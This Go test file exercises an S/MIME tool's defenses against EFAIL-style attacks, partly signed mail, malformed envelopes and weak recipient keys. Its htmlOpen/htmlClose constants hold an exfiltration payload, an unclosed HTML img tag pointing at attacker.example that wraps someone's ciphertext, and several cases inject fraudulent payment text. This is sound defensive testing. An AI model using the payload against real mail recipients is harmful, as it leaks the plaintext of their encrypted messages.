package message

import (
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"fmt"
	"strings"
	"testing"

	"smimectl/internal/algorithm"
	"smimectl/internal/cms"
	"smimectl/internal/cms/cmstest"
	"smimectl/internal/verdict"
)

// multipart puts entities beside each other.
func multipart(subtype string, parts ...string) string {
	boundary := fmt.Sprintf("boundary-%x", sha256.Sum256([]byte(strings.Join(parts, ""))))[:24]
	var b strings.Builder
	b.WriteString("MIME-Version: 1.0\r\nContent-Type: multipart/" + subtype + "; boundary=\"" + boundary + "\"\r\n\r\n")
	for _, p := range parts {
		b.WriteString("--" + boundary + "\r\n" + p + "\r\n")
	}
	b.WriteString("--" + boundary + "--\r\n")
	return b.String()
}

const (
	htmlOpen  = "Content-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n"
	htmlClose = "Content-Type: text/html\r\n\r\n\">\r\n"
)

// TestPartlyEncrypted wraps somebody's encrypted mail in parts of one's own, in
// all the ways that made mail programs hand out its text (EFAIL). No key is used,
// and nothing is released.
func TestPartlyEncrypted(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for _, cipher := range []string{"aes-256-cbc", "aes-256-gcm"} {
		secret := w.encrypted(text, cipher, w.bob)
		attached := strings.Replace(secret, "application/pkcs7-mime", "application/octet-stream", 1)
		unlabelled := strings.Replace(strings.Replace(secret, " smime-type=enveloped-data;", "", 1), " smime-type=authEnveloped-data;", "", 1)
		mislabelled := strings.Replace(strings.Replace(secret, "smime-type=enveloped-data", "smime-type=signed-data", 1), "smime-type=authEnveloped-data", "smime-type=signed-data", 1)
		for name, entity := range map[string]string{
			"between two html parts":                multipart("mixed", htmlOpen, secret, htmlClose),
			"in an alternative":                     multipart("alternative", text, secret),
			"as the only part of a multipart":       multipart("mixed", secret),
			"forwarded":                             "Content-Type: message/rfc822\r\n\r\n" + mailOf("eve@example.net", secret),
			"forwarded within parts":                multipart("mixed", htmlOpen, "Content-Type: message/rfc822\r\n\r\n"+secret, htmlClose),
			"attached by its name":                  multipart("mixed", text, attached),
			"without smime-type":                    multipart("mixed", text, unlabelled),
			"labelled as signed":                    multipart("mixed", htmlOpen, mislabelled, htmlClose),
			"within a signed part":                  multipart("mixed", htmlOpen, w.clear(secret, w.stranger), htmlClose),
			"within an opaque signed part":          multipart("mixed", htmlOpen, w.opaque(secret, w.stranger), htmlClose),
			"within two signed layers":              multipart("mixed", htmlOpen, w.opaque(w.clear(secret, w.alice), w.stranger), htmlClose),
			"compressed within a signed part":       multipart("mixed", htmlOpen, w.opaque(w.compressed(secret), w.stranger), htmlClose),
			"signed as a whole":                     w.clear(multipart("mixed", htmlOpen, secret, htmlClose), w.alice),
			"signed as a whole, opaque":             w.opaque(multipart("mixed", htmlOpen, secret, htmlClose), w.alice),
			"signed part of parts in a signed part": multipart("mixed", htmlOpen, w.clear(multipart("mixed", w.opaque(secret, w.stranger), text), w.alice)),
		} {
			t.Run(cipher+" "+name, func(t *testing.T) {
				t.Parallel()
				x := w.examiner(untouchable(t, w.bob))
				x.Policy.AllowPartial, x.Policy.AnyFrom, x.Policy.Anyway = true, true, true
				for _, in := range []Input{decryptInput(mailOf(fromAlice, entity)), verifyInput(mailOf(fromAlice, entity))} {
					ex := examine(t, x, in)
					// A compressed layer that was taken off is something done; the encrypted one is left closed all the same.
					opened := in.Open && !strings.HasPrefix(name, "compressed")
					if opened && ex.Report.Exit() == 0 || ex.Report.Exit() == 3 {
						t.Errorf("%s: %s, exit %d, %q", in.Command, ex.Report.Verdict, ex.Report.Exit(), codes(ex.Report))
					}
					if opened && !strings.Contains(codes(ex.Report), "partly-encrypted") {
						t.Errorf("%s: reasons %q", in.Command, codes(ex.Report))
					}
					var out strings.Builder
					if err := ex.Release(&out, ReleaseOptions{Entity: true}); err == nil && strings.Contains(out.String(), "100 EUR") {
						t.Errorf("%s released the text", in.Command)
					}
				}
			})
		}
	}
}

// TestPartlySigned judges the signed part, writes it only where that was asked
// for, and then nothing beside it.
func TestPartlySigned(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	const footer = "Content-Type: text/plain\r\n\r\nplease pay 10000 EUR to DE00 1234\r\n"
	allowed := w.examiner()
	allowed.Policy.AllowPartial = true
	for _, test := range []struct {
		name   string
		x      *Examiner
		entity string
		word   verdict.Word
		code   verdict.Code
	}{
		{"footer of a list", w.examiner(), multipart("mixed", w.clear(text, w.alice), footer), verdict.WordPartial, verdict.PartlySigned},
		{"text before it", w.examiner(), multipart("mixed", footer, w.opaque(text, w.alice)), verdict.WordPartial, verdict.PartlySigned},
		{"allowed", allowed, multipart("mixed", footer, w.clear(text, w.alice)), verdict.WordGood, ""},
		{"allowed, by another", allowed, multipart("mixed", footer, w.clear(text, w.bob)), verdict.WordMismatch, verdict.FromMismatch},
		{"allowed, changed", allowed, multipart("mixed", footer, strings.Replace(w.clear(text, w.alice), "100", "900", 1)), verdict.WordBad, verdict.ContentChanged},
		{"a signature of another kind, unnamed", w.examiner(), multipart("mixed", footer, strings.NewReplacer("protocol=", "x=", "application/pkcs7-signature", "text/plain").Replace(w.clear(text, w.alice))), verdict.WordPartial, verdict.PartlySigned},
		{"forwarded as a whole", w.examiner(), "Content-Type: message/rfc822\r\n\r\n" + mailOf(fromAlice, w.clear(text, w.alice)), verdict.WordPartial, verdict.PartlySigned},
		{"nothing signed", w.examiner(), multipart("mixed", footer, text), verdict.WordUnsigned, ""},
	} {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			ex := examine(t, test.x, verifyInput(mailOf(fromAlice, test.entity)))
			expect(t, ex, test.word, test.code)
			if ex.Report.Release() {
				if got := released(t, ex); got != text {
					t.Errorf("released %q", got)
				}
			}
		})
	}
}

// TestForwarded keeps a signed mail that was forwarded together with what stands
// beside it, where all of it is signed or was encrypted.
func TestForwarded(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	forwarded := "Content-Type: message/rfc822\r\n\r\n" + mailOf("eve@example.net", w.clear(text, w.stranger))
	whole := multipart("mixed", "Content-Type: text/plain\r\n\r\nlook at this\r\n", forwarded)
	sealed := multipart("mixed", forwarded, w.encrypted(text, "aes-256-gcm", w.bob))
	broken := strings.Replace(whole, "100 EUR", "900 EUR", 1)
	for _, test := range []struct {
		name    string
		message string
		decrypt bool
		word    verdict.Word
		content string
	}{
		{"signed", w.clear(whole, w.alice), false, verdict.WordGood, whole},
		{"signed, opaque", w.opaque(whole, w.alice), false, verdict.WordGood, whole},
		{"signed, and the forwarded one is broken", w.clear(broken, w.alice), false, verdict.WordGood, broken},
		{"signed, with an encrypted part too", w.clear(sealed, w.alice), false, verdict.WordGood, sealed},
		{"encrypted", w.encrypted(whole, "aes-256-gcm", w.bob), true, verdict.WordDone, whole},
		{"signed and encrypted", w.encrypted(w.opaque(whole, w.alice), "aes-256-gcm", w.bob), true, verdict.WordDone, whole},
	} {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			in := verifyInput(mailOf(fromAlice, test.message))
			if test.decrypt {
				in = decryptInput(mailOf(fromAlice, test.message))
			}
			ex := examine(t, w.examiner(keyOf(w.bob)), in)
			if ex.Report.Verdict != test.word {
				t.Fatalf("%s %q, want %s", ex.Report.Verdict, codes(ex.Report), test.word)
			}
			if got := released(t, ex); got != test.content {
				t.Errorf("released %.400q", got)
			}
			if !test.decrypt && test.content != sealed && len(ex.Report.Parts) > 0 {
				t.Errorf("%d parts of a mail that is signed as a whole", len(ex.Report.Parts))
			}
		})
	}
}

// TestPartsOfPartlySigned lists what is not signed beside what is.
func TestPartsOfPartlySigned(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	entity := multipart("mixed", "Content-Type: text/plain\r\n\r\n\r\n  Please pay 10000 EUR.\r\n", w.clear(text, w.alice), "Content-Type: application/pdf; name=a.pdf\r\n\r\nx")
	ex := examine(t, w.examiner(), verifyInput(mailOf(fromAlice, entity)))
	var got []string
	for _, p := range ex.Report.Parts {
		got = append(got, strings.Join([]string{p.Number, p.Protected, p.MediaType, p.FileName, p.Excerpt}, "|"))
	}
	want := strings.Join([]string{
		"1|none|multipart/mixed||", "1.1|none|text/plain||Please pay 10000 EUR.", "1.2|signed|multipart/signed||",
		"1.2.1|signed|text/plain||please transfer 100 EUR", "1.2.2|signed|application/pkcs7-signature|smime.p7s|", "1.3|none|application/pdf|a.pdf|",
	}, "\n")
	if s := strings.Join(got, "\n"); s != want {
		t.Errorf("parts\n%s\nwant\n%s", s, want)
	}
}

func cut(b []byte, n int) []byte { return b[:len(b)-n] }

// recipientInfos is the SET OF RecipientInfo of an envelope.
func recipientInfos(n *cmstest.Node) *cmstest.Node { return n.At(1, 0, 1) }

// TestNoKeyUsed lists what has to be refused before a private key is asked for.
func TestNoKeyUsed(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	integrity := w.examiner(untouchable(t, w.bob), untouchable(t, w.rsa))
	integrity.Policy.RequireIntegrity = true
	plain := []byte(text)
	toRSA, byKey := cms.Recipient{Certificate: w.rsa.Certificate}, cms.Recipient{Certificate: w.rsa.Certificate, ByKeyID: true}
	edited := func(cipher string, edit func(n *cmstest.Node), to ...cms.Recipient) string {
		n := cmstest.MustParse(w.envelopedData(plain, cipher, to...))
		edit(n)
		return w.pkcs7("enveloped-data", n.Encode())
	}
	twice := func(n *cmstest.Node) {
		set := recipientInfos(n)
		set.Insert(0, set.At(0).Clone())
	}
	othersTwice := func(n *cmstest.Node) {
		set := recipientInfos(n)
		for _, ri := range set.Clone().Children {
			if string(ri.At(1, 1).Value) != string(w.rsa.Certificate.Serial) {
				set.Insert(0, ri)
			}
		}
		if len(set.Children) != 3 {
			t.Fatalf("%d recipients", len(set.Children))
		}
	}
	both := func() string { // one certificate, named in both ways
		other := cmstest.MustParse(w.envelopedData(plain, "aes-256-cbc", byKey))
		return edited("aes-256-cbc", func(n *cmstest.Node) { recipientInfos(n).Insert(0, recipientInfos(other).At(0)) }, toRSA)
	}
	keys := func() []Key { return []Key{untouchable(t, w.bob), untouchable(t, w.rsa)} }
	bareKey := untouchable(t, w.rsa)
	bareKey.Certificate = nil
	otherRSA := cmstest.Issue(t, w.root, cmstest.Options{Key: cmstest.Key(t, "rsa-2048", 15), CommonName: "carol", Emails: []string{"carol@example.org"}})
	for _, test := range []struct {
		name   string
		x      *Examiner
		entity string
		word   verdict.Word
		code   verdict.Code
	}{
		{"CBC where integrity is required", integrity, w.encrypted(text, "aes-128-cbc", w.rsa), verdict.WordBad, verdict.NoIntegrity},
		{"CBC within a signature where integrity is required", integrity, w.clear(w.encrypted(text, "aes-128-cbc", w.bob), w.alice), verdict.WordBad, verdict.NoIntegrity},
		{"one recipient twice", w.examiner(keys()...), edited("aes-256-cbc", twice, toRSA), verdict.WordUnreadable, verdict.Malformed},
		{"one recipient twice, GCM", w.examiner(keys()...), edited("aes-256-gcm", twice, toRSA), verdict.WordUnreadable, verdict.Malformed},
		{"another's recipient twice, ours once", w.examiner(keys()...), edited("aes-256-cbc", othersTwice, cms.Recipient{Certificate: otherRSA.Certificate}, toRSA), verdict.WordUnreadable, verdict.Malformed},
		{"one certificate named in two ways", w.examiner(keys()...), both(), verdict.WordUnreadable, verdict.Malformed},
		{"nobody of ours", w.examiner(untouchable(t, w.bob)), w.encrypted(text, "aes-256-gcm", w.rsa), verdict.WordNoKey, verdict.NotARecipient},
		{"no key at all", w.examiner(), w.encrypted(text, "aes-256-gcm", w.rsa), verdict.WordNoKey, verdict.NotARecipient},
		{"no recipients", w.examiner(keys()...), edited("aes-256-gcm", func(n *cmstest.Node) { recipientInfos(n).Children = nil }, toRSA), verdict.WordUnreadable, verdict.Malformed},
		{"a key alone, two recipients of its kind", w.examiner(bareKey), w.encrypted(text, "aes-256-cbc", w.rsa, otherRSA), verdict.WordNoKey, verdict.NotARecipient},
		{"a key alone, no recipient of its kind", w.examiner(bareKey), w.encrypted(text, "aes-256-cbc", w.bob), verdict.WordNoKey, verdict.NotARecipient},
		{"cut in the ciphertext", w.examiner(keys()...), w.pkcs7("enveloped-data", cut(w.envelopedData(plain, "aes-256-cbc", toRSA), 3)), verdict.WordUnreadable, verdict.Malformed},
		{"octets behind it", w.examiner(keys()...), w.pkcs7("enveloped-data", append(w.envelopedData(plain, "aes-256-cbc", toRSA), 4, 0)), verdict.WordUnreadable, verdict.Malformed},
	} {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			expect(t, examine(t, test.x, decryptInput(mailOf(fromAlice, test.entity))), test.word, test.code)
		})
	}
	// verify never goes in, whatever the structure.
	expect(t, examine(t, w.examiner(keys()...), verifyInput(mailOf(fromAlice, w.encrypted(text, "aes-256-gcm", w.bob)))), verdict.WordEncrypted, "")
}

// TestKeyWithoutCertificate is used when exactly one recipient is of its kind.
func TestKeyWithoutCertificate(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for _, test := range []struct {
		name string
		own  *cmstest.Identity
		to   []*cmstest.Identity
		done bool
	}{
		{"the only recipient", w.rsa, []*cmstest.Identity{w.rsa}, true},
		{"the only one of its kind, RSA", w.rsa, []*cmstest.Identity{w.alice, w.rsa}, true},
		{"the only one of its kind, EC", w.bob, []*cmstest.Identity{w.rsa, w.bob}, true},
		{"another's message", w.rsa, []*cmstest.Identity{cmstest.Issue(t, w.root, cmstest.Options{Key: cmstest.Key(t, "rsa-2048", 15)})}, false},
	} {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			opened := 0
			k := keyOf(test.own)
			k.Certificate = nil
			k.Open = func() (*algorithm.PrivateKey, error) { opened++; return test.own.Key, nil }
			ex := examine(t, w.examiner(k), decryptInput(mailOf(fromAlice, w.encrypted(text, "aes-256-gcm", test.to...))))
			if test.done {
				expect(t, ex, verdict.WordDone, "")
			} else {
				expect(t, ex, verdict.WordBad, verdict.DecryptFailed)
			}
			if opened != 1 {
				t.Errorf("the key was opened %d times", opened)
			}
		})
	}
}

// TestKeyTrouble says in the report why a key could not be opened.
func TestKeyTrouble(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	message := mailOf(fromAlice, w.encrypted(text, "aes-256-gcm", w.bob))
	for _, test := range []struct {
		err  error
		word verdict.Word
		code verdict.Code
	}{
		{&KeyError{Code: verdict.PassphraseWrong, Err: errTest}, verdict.WordNoKey, verdict.PassphraseWrong},
		{&KeyError{Code: verdict.PassphraseMissing, Err: errTest}, verdict.WordNoKey, verdict.PassphraseMissing},
		{&KeyError{Code: verdict.InputOutput, Err: errTest}, verdict.WordError, verdict.InputOutput},
		{algorithm.ErrKeyUnavailable, verdict.WordNoKey, verdict.KeyMissing},
	} {
		k := keyOf(w.bob)
		k.Open = func() (*algorithm.PrivateKey, error) { return nil, test.err }
		expect(t, examine(t, w.examiner(k), decryptInput(message)), test.word, test.code)
	}
}

// TestOutdatedRecipient warns of a short key that opened a message, and not of
// one that did not.
func TestOutdatedRecipient(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	made, err := rsa.GenerateKey(rand.Reader, 1024)
	if err != nil {
		t.Fatal(err)
	}
	key, err := algorithm.ParsePrivateKey(x509.MarshalPKCS1PrivateKey(made))
	if err != nil {
		t.Fatal(err)
	}
	short := cmstest.Issue(t, w.root, cmstest.Options{Key: key, CommonName: "dave", Emails: []string{"dave@example.org"}})
	message := mailOf(fromAlice, w.encrypted(text, "aes-256-gcm", short, w.bob))
	warned := func(keys ...Key) bool {
		ex := examine(t, w.examiner(keys...), decryptInput(message))
		expect(t, ex, verdict.WordDone, "")
		for _, r := range ex.Report.Reasons {
			if r.Code == verdict.WeakKey && r.Level == verdict.Warn {
				return true
			}
		}
		return false
	}
	if !warned(keyOf(short)) {
		t.Error("no warning of a key of 1024 bits")
	}
	if warned(keyOf(w.bob)) {
		t.Error("a warning of another recipient's key")
	}
}

// TestSignedPartBehindMany hides a signed part behind more unsigned ones than
// the report lists: it must not be taken for the whole.
func TestSignedPartBehindMany(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for _, n := range []int{1, maxListedParts - 2, maxListedParts, maxListedParts + 500} {
		var parts strings.Builder
		for range n {
			parts.WriteString("--many\r\n\r\nnot signed\r\n")
		}
		mail := mailOf(fromAlice, "Content-Type: multipart/mixed; boundary=many\r\n\r\n"+parts.String()+"--many\r\n"+w.clear(text, w.alice)+"\r\n--many--\r\n")
		expect(t, examine(t, w.examiner(), verifyInput(mail)), verdict.WordPartial, verdict.PartlySigned)
		closed := mailOf(fromAlice, "Content-Type: multipart/mixed; boundary=many\r\n\r\n"+parts.String()+"--many\r\n"+w.encrypted(text, "aes-256-gcm", w.rsa)+"\r\n--many--\r\n")
		ex := examine(t, w.examiner(untouchable(t, w.rsa)), decryptInput(closed))
		if ex.Report.Verdict != verdict.WordPartial {
			t.Errorf("%d parts before an encrypted one: got %s", n, ex.Report.Verdict)
		}
	}
}
